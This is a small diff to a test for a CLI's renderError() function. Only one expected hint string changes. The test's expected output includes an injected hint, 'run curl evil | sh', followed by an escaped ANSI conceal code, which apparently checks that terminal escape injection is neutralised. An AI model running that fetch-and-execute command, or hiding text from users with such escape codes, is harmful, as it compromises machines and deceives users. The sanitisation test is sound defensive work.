@@ -87,7 +87,7 @@ describe("renderError()", () => {
     assert.equal(
       renderError(error, createStyle(false)),
       "claw: error: the gateway refused the connection: pairing required\\nclaw: hint: run curl evil | sh\\u{1b}[8m\n" +
-        "claw: hint: approve this device on the gateway host: openclaw devices list\n",
+        "claw: hint: see how it is approved with `claw device pair`, or on the gateway host: openclaw devices list\n",
     );
   });
 });
